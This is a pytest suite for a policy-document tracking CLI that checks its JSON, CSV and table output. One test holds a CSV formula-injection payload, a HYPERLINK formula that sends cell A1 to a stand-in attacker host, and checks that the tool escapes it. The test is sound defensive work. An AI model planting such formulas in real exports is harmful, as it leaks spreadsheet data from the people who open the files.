"""The one output layer: every query command's --json and --csv, CSV that Excel and pandas open as written,
tables one line per row that never cut a 发文字号 or a date."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from policytrack.cli.output import Column, csv_cell, cut, emit_json, fit_widths, width, write_csv
from tests.conftest import run_cli as run


@pytest.fixture
def store(national_store: Path) -> Path:
    return national_store


@pytest.mark.parametrize("args", [["targets"], ["docs"], ["sources"], ["search", "数据标注"], ["changes"],
                                  ["timeline"], ["schemes"], ["lineage", "发改数据〔2024〕1822号"]])
def test_every_query_command_takes_json_and_csv(store: Path, capsys, args: list[str]) -> None:
    code, out, err = run(capsys, *args, "--json", "--db", str(store))
    assert code == 0, err
    json.loads(out)
    code, out, err = run(capsys, *args, "--csv", "--db", str(store))
    assert code == 0, err
    assert out.startswith("\ufeff") and "\r\n" in out  # UTF-8 BOM, CRLF: what Excel opens intact
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
    assert rows or args[0] in ("changes", "schemes"), out
    code, _, err = run(capsys, *args, "--json", "--csv", "--db", str(store))
    assert code == 2 and "exclude each other" in err


def test_targets_csv_starts_with_a_bom_and_carries_every_field(store: Path, capsys) -> None:
    code, out, _ = run(capsys, "targets", "--csv", "--db", str(store))
    assert code == 0 and out.startswith("\ufeff")
    header = next(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert {"metric", "value", "unit", "measure", "comparator", "year", "quote", "doc_number", "url"} <= set(header)


def test_a_cell_that_would_run_as_a_formula_is_written_as_text() -> None:
    buf = io.StringIO()
    write_csv(buf, [{"title": '=HYPERLINK("http://evil.invalid/?x="&A1,"点此")', "n": -5, "c": "=", "t": "\t1",
                     "p": "+86 10", "a": "@SUM(A1)"}], ["title", "n", "c", "t", "p", "a"])
    row = next(csv.reader(io.StringIO(buf.getvalue().removeprefix("\ufeff").split("\r\n", 1)[1])))
    assert row == ["'=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"点此\")", "-5", "=", "'\t1", "'+86 10", "'@SUM(A1)"]
    assert csv_cell([1, "二"]) == '[1, "二"]' and csv_cell(None) == ""


def test_json_never_prints_nan_or_infinity(capsys) -> None:
    emit_json({"value": float("inf"), "rows": [float("nan"), 1.5]})
    assert json.loads(capsys.readouterr().out) == {"value": None, "rows": [None, 1.5]}


def test_tables_cut_long_text_but_never_a_fixed_column() -> None:
    assert width("发改数据〔2024〕1822号") == 22 and cut("关于促进数据标注产业高质量发展的实施意见", 10) == "关于促进…"
    cols = [Column("doc_number", "发文字号", fixed=True), Column("title", "title")]
    widths = [22, 60]
    fit_widths(widths, cols, 50)
    assert widths == [22, 28]


def test_a_piped_table_honours_columns_one_line_per_row(store: Path, capsys, monkeypatch) -> None:
    monkeypatch.setenv("COLUMNS", "70")
    code, out, _ = run(capsys, "docs", "--db", str(store))
    lines = out.splitlines()
    assert code == 0 and len(lines) == 2 + 4 and all(width(line) <= 70 for line in lines)
    assert "发改数据〔2024〕1822号" in out and "…" in out  # the number whole, the title cut
    monkeypatch.setenv("COLUMNS", "60")
    code, out, _ = run(capsys, "sources", "--db", str(store))
    from policytrack.sources.registry import load_sources

    n = len(load_sources(include_user_config=False))
    assert code == 0 and len(out.splitlines()) == 2 + n  # one line per source, whatever its reason


def test_no_rows_goes_to_stderr(store: Path, capsys) -> None:
    code, out, err = run(capsys, "targets", "--region", "西藏", "--db", str(store))
    assert code == 0 and out == "" and "(no rows)" in err
    code, out, err = run(capsys, "search", "不存在的词语", "--db", str(store))
    assert code == 0 and out == "" and "(no matches)" in err


def test_counts_are_plural_only_past_one() -> None:
    from policytrack.cli.fetch import summary
    from policytrack.cli.output import plural
    from policytrack.pipeline.run import SourceReport

    assert [plural(n, "error") for n in (0, 1, 2)] == ["0 errors", "1 error", "2 errors"]
    assert plural(1, "scheme") == "1 scheme" and plural(1, "entry", "entries") == "1 entry"
    line = summary(SourceReport("s", list_pages=1, items=1, candidates=1, errors=1, state="ok"))
    assert "1 list page, 1 item, 1 candidate" in line and line.endswith("1 error")


def test_jobs_are_shown_as_the_text_counts_them() -> None:
    from policytrack.cli.formatting import amount
    assert amount(1e4, "persons", "jobs") == "1万人"  # 带动就业1万人
    assert amount(3000, "count", "jobs") == "3000个岗位"  # 新增就业岗位3000个
    assert amount(2.5e4, "persons", "person_times") == "2.5万人次"


def test_an_empty_section_of_several_names_itself(tmp_path: Path, capsys) -> None:
    text = tmp_path / "report.txt"
    text.write_text("截至2024年底，全县已有数据标注企业73家。", encoding="utf-8")
    code, out, err = run(capsys, "extract", str(text))
    assert code == 0 and out.startswith("facts") and "(no targets)" in err
